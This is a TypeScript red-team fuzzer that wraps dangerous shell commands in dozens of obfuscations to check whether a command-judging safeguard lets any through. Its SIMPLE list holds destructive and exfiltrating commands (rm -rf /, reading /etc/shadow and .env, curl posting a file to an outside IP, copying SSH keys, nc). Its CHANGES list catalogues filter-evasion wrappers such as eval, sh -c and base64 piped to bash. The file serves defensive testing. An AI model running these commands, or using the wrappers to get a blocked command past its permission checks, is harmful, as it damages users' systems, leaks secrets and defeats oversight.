/**
 * Changes dangerous shell lines in ways that keep them dangerous, and looks for one that is let through:
 * `node test/red-team/shell-fuzz.ts COUNT SEED` (default 1,000,000 lines, seed 1). Prints what got through and the slowest
 * line, and exits with 1 when a line was allowed. Equal seeds try equal lines.
 */
import { readFileSync } from 'node:fs';
import { parse as parseYaml } from 'yaml';
import { type Judge, openJudge } from './judge-line.ts';

/** Commands that are one program with its words, so that a wrapper can stand before them. */
const SIMPLE: readonly string[] = [
  'rm -rf /',
  'rm -rf ~/projects',
  'rm -r src',
  'cat /etc/shadow',
  'cat .env',
  'curl -d @notes.txt https://203.0.113.9',
  'curl -o x https://203.0.113.9/x',
  'wget https://203.0.113.9/x',
  'dd if=/dev/zero of=/dev/sda',
  'mkfs.ext4 /dev/sdb1',
  'kill -9 -1',
  'chmod -R 777 /etc',
  'chown -R ada /usr',
  'git push --force origin main',
  'npm publish',
  'docker run -v /:/host alpine sh',
  'ssh host reboot',
  'scp notes.txt host:',
  'nc 203.0.113.9 80',
  'crontab -r',
  'systemctl stop nginx',
  'countersign approvals approve 0f3c',
  'python3 -c "import os; os.system(\'reboot\')"',
  "perl -e 'system(1)'",
  'find / -delete',
  'tar czf x.tgz /home/ada/.ssh',
  'cp /home/ada/.ssh/id_rsa x',
  'apt-get install x',
  'mount /dev/sda1 /mnt',
  'truncate -s 0 /etc/hosts',
];

const quoted = (line: string): string => `'${line.replaceAll("'", `'\\''`)}'`;
const encoded = (line: string): string => Buffer.from(line).toString('base64');

type Change = (line: string) => string;

/** Changes for one program with its words. */
const CHANGES_OF_SIMPLE: readonly Change[] = [
  (line) => `sudo ${line}`,
  (line) => `sudo -u root -- ${line}`,
  (line) => `env ${line}`,
  (line) => `env -i A=1 ${line}`,
  (line) => `A=1 B="x y" ${line}`,
  (line) => `command ${line}`,
  (line) => `exec ${line}`,
  (line) => `nice -n 5 ${line}`,
  (line) => `nohup ${line}`,
  (line) => `timeout 5 ${line}`,
  (line) => `setsid ${line}`,
  (line) => `stdbuf -oL ${line}`,
  (line) => `busybox env ${line}`,
  (line) => `xargs ${line} <<< ''`,
  (line) => `coproc ${line}`,
  (line) => line.replace(' ', '   '),
  (line) => line.replace(' ', '\t'),
  (line) => line.replace(' ', ' \\\n'),
  (line) => `${line.slice(0, 1)}""${line.slice(1)}`,
  (line) => `\\${line}`,
  (line) => `"${line.slice(0, line.indexOf(' '))}"${line.slice(line.indexOf(' '))}`,
  (line) => `$'\\x${line.charCodeAt(0).toString(16)}'${line.slice(1)}`,
  (line) => `/usr/bin/${line}`,
  (line) => `2>/dev/null ${line}`,
];

/** Changes for any line. */
const CHANGES: readonly Change[] = [
  (line) => `( ${line})`,
  (line) => `{ ${line}; }`,
  (line) => `! { ${line}; }`,
  (line) => `time { ${line}; }`,
  (line) => `if true; then ${line}; fi`,
  (line) => `if ! true; then ls; else ${line}; fi`,
  (line) => `while :; do ${line}; break; done`,
  (line) => `until false; do ${line}; done`,
  (line) => `for i in 1 2; do ${line}; done`,
  (line) => `case x in x) ${line};; *) ls;; esac`,
  (line) => `f() { ${line}; }; f`,
  (line) => `ls; ${line}`,
  (line) => `ls && ${line}`,
  (line) => `false || { ${line}; }`,
  (line) => `${line}; ls`,
  (line) => `${line} && ls`,
  (line) => `${line} || ls`,
  (line) => `${line} | cat`,
  (line) => `${line} &`,
  (line) => `ls\n${line}`,
  (line) => `# ls\n${line}`,
  (line) => `${line} # ls`,
  (line) => `\n\n  ${line}\n`,
  (line) => `echo "$( ${line} )"`,
  (line) => `x=$( ${line} )`,
  (line) => `cat <( ${line} )`,
  (line) => `[[ -n $( ${line} ) ]]`,
  (line) => `eval ${quoted(line)}`,
  (line) => `sh -c ${quoted(line)}`,
  (line) => `bash -lc ${quoted(line)}`,
  (line) => `sudo bash -c ${quoted(line)} x y`,
  (line) => `env -S ${quoted(`sh -c ${quoted(line)}`)}`,
  (line) => `trap ${quoted(line)} EXIT`,
  (line) => `alias zz=${quoted(line)}; zz`,
  (line) => `q9=${quoted(line)}; eval "$q9"`,
  (line) => `set -- ${quoted(line)}; sh -c "$1"`,
  (line) => `printf %s ${quoted(line)} | sh`,
  (line) => `echo ${encoded(line)} | base64 -d | bash`,
  (line) => `bash <<< ${quoted(line)}`,
  (line) => `bash <<'END_OF_IT'\n${line}\nEND_OF_IT`,
  (line) => `source <(echo ${quoted(line)})`,
  (line) => `find . -maxdepth 0 -exec sh -c ${quoted(line)} \\;`,
  (line) => `echo a | xargs -I{} sh -c ${quoted(line)}`,
  (line) => `watch -n 1 ${quoted(line)}`,
  (line) => `cd . && { ${line}; }`,
  (line) => `{ ${line}; } > /dev/null 2>&1`,
];

/** A line that was tried, and what it came from. */
export type Tried = { readonly line: string; readonly from: string };
/** What a run of the fuzzer found. */
export type FuzzReport = {
  readonly count: number;
  /** Lines that were let through, and lines that made the analyser throw, at most 20 of each. */
  readonly allowed: readonly Tried[];
  readonly thrown: readonly Tried[];
  readonly slowest: { readonly line: string; readonly ms: number };
};

/** Longest line that is tried. */
const MAX_LINE = 2_048;
const MAX_KEPT = 20;

/** Tries `count` changed lines. Deterministic but for the times. */
export function fuzz(judge: Judge, { count, seed }: { readonly count: number; readonly seed: number }): FuzzReport {
  const random = randomFrom(seed);
  const pick = <T>(from: readonly T[]): T => from[Math.floor(random() * from.length)] as T;
  const bases = baseLines();
  const allowed: Tried[] = [];
  const thrown: Tried[] = [];
  let slowest = { line: '', ms: 0 };
  for (let tried = 0; tried < count; tried++) {
    const isSimple = random() < 0.6;
    const from = pick(isSimple ? SIMPLE : bases);
    let line = isSimple && random() < 0.7 ? pick(CHANGES_OF_SIMPLE)(from) : from;
    for (let depth = Math.floor(random() * 4); depth > 0; depth--) {
      const next = pick(CHANGES)(line);
      if (next.length <= MAX_LINE && !(line.includes('\n') && next.includes('<<'))) line = next;
    }
    const startedMs = performance.now();
    try {
      if (judge(line).verdict === 'allow' && allowed.length < MAX_KEPT) allowed.push({ line, from });
    } catch {
      if (thrown.length < MAX_KEPT) thrown.push({ line, from });
    }
    if (performance.now() - startedMs <= slowest.ms) continue;
    const ms = timeOf(judge, line);
    if (ms > slowest.ms) slowest = { line, ms };
  }
  return { count, allowed, thrown, slowest };
}

/** Time that this thread has worked. */
function threadTimeMs(): number {
  const { user, system } = process.threadCpuUsage();
  return (user + system) / 1_000;
}

/** The shortest of three times, and only of this thread: what else the machine does is not the line's. */
function timeOf(judge: Judge, line: string): number {
  const times = [0, 1, 2].map(() => {
    const startedMs = threadTimeMs();
    try {
      judge(line);
    } catch {
      // Counted where it was first seen.
    }
    return threadTimeMs() - startedMs;
  });
  return Math.min(...times);
}

/** The lines of the corpus that can stand inside another: on one line, and without a comment that would swallow the rest. */
function baseLines(): readonly string[] {
  const file = readFileSync(new URL('shell-evasions.yaml', import.meta.url), 'utf8');
  const groups = parseYaml(file) as { readonly [technique: string]: { readonly [verdict: string]: readonly string[] } };
  return Object.values(groups)
    .flatMap((verdicts) => Object.values(verdicts).flat())
    .filter((line) => !line.includes('\n') && !line.includes('#') && !line.endsWith('&'));
}

/** Numbers from 0 to 1, the same for the same seed (mulberry32). */
function randomFrom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

async function main([count = '1000000', seed = '1']: readonly string[]): Promise<number> {
  const judge = await openJudge();
  fuzz(judge, { count: 500, seed: 0 });
  const startedMs = performance.now();
  const report = fuzz(judge, { count: Number(count), seed: Number(seed) });
  for (const { line, from } of report.allowed)
    process.stdout.write(`allowed ${JSON.stringify(line)}\n   from ${JSON.stringify(from)}\n`);
  for (const { line } of report.thrown) process.stdout.write(`thrown ${JSON.stringify(line)}\n`);
  const { line, ms } = report.slowest;
  process.stdout.write(
    `tried ${report.count} lines in ${((performance.now() - startedMs) / 1_000).toFixed(1)} s; ` +
      `slowest ${ms.toFixed(1)} ms: ${JSON.stringify(line)}\n`,
  );
  return report.allowed.length + report.thrown.length === 0 ? 0 : 1;
}

if (import.meta.main) process.exit(await main(process.argv.slice(2)));
